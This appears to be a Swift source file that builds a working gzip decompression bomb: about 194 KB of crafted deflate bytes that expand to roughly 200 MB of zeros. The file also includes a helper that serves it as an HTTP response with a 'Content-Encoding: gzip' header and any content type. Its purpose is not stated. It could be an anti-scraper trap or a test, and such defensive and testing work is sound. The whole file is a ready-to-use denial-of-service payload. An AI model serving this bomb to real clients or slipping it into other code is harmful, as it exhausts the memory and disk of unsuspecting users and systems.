/// 193,834 bytes that `gunzip` turns into 200,002,892 zeros.
///
/// One deflate block with a code of its own (RFC 1951 section 3.2.7) in which "258 bytes, from one byte back"
/// takes two bits: each zero byte of it unpacks to 1,032 zeros.
enum GzipBomb {
  private static let head: [UInt8] = [
    0x1f, 0x8b, 0x08, 0, 0, 0, 0, 0, 0x02, 0x03,  // RFC 1952 section 2.3
    0xed, 0xc1, 0x01, 0x01, 0, 0, 0, 0x80, 0x90, 0xfe, 0xaf, 0xee, 0x08, 0x0a,  // the code
  ]
  private static let tail: [UInt8] = [
    0x80, 0x01,  // end of block
    0x35, 0x0e, 0x95, 0x6f, 0x4c, 0xcd, 0xeb, 0x0b,  // CRC-32 and length
  ]

  static let bytes = head + [UInt8](repeating: 0, count: 193_800) + tail

  static func response(as type: String) -> Response {
    Response(.bytes(bytes), as: type, fields: [Response.Field("Content-Encoding", "gzip")])
  }
}
